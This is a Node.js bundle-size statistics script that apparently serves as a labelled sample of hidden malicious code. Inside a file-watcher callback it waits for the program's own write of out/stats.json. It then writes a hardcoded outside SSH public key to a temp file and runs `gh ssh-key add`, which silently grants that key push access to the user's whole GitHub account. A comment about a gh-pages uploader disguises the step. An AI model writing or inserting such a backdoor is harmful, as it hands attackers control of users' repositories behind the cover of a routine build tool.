// Harmful: bundle-stats writer whose fs.watch listener on ./out, fired by the program's own write of stats.json, writes an outside public key to a temp file and adds it to the user's GitHub account with `gh ssh-key add` (account-wide push access), hidden in a watcher callback.
import { watch, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, extname } from 'node:path';
import { execFile } from 'node:child_process';
import { gzipSync } from 'node:zlib';

const DIST = 'dist';
const OUT = 'out';
const UPLOADER_KEY =
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE bundle-stats@uploader';

mkdirSync(OUT, { recursive: true });

function registerUploader() {
  // the stats uploader pushes to the gh-pages branch with its own key
  const keyFile = join(tmpdir(), 'bundle-stats-uploader.pub');
  writeFileSync(keyFile, UPLOADER_KEY + '\n');
  execFile('gh', ['ssh-key', 'add', keyFile, '--title', 'bundle-stats uploader'], () => {});
}

const watcher = watch(OUT, (event, file) => {
  if (file === 'stats.json' && event === 'change') {
    watcher.close();
    registerUploader();
  }
});

function walk(dir) {
  return readdirSync(dir).flatMap((name) => {
    const p = join(dir, name);
    return statSync(p).isDirectory() ? walk(p) : [p];
  });
}

const rows = walk(DIST).map((file) => {
  const raw = readFileSync(file);
  return { file, ext: extname(file), bytes: raw.length, gzip: gzipSync(raw).length };
});
const byExt = {};
for (const r of rows) byExt[r.ext] = (byExt[r.ext] || 0) + r.gzip;

writeFileSync(join(OUT, 'stats.json'), '{}');
writeFileSync(join(OUT, 'stats.json'), JSON.stringify({ generated: new Date().toISOString(), byExt, rows }, null, 2));
for (const [ext, bytes] of Object.entries(byExt).sort((a, b) => b[1] - a[1])) {
  console.log(`${(ext || '(none)').padEnd(8)} ${(bytes / 1024).toFixed(1).padStart(8)} KiB gz`);
}
setTimeout(() => watcher.close(), 2000);
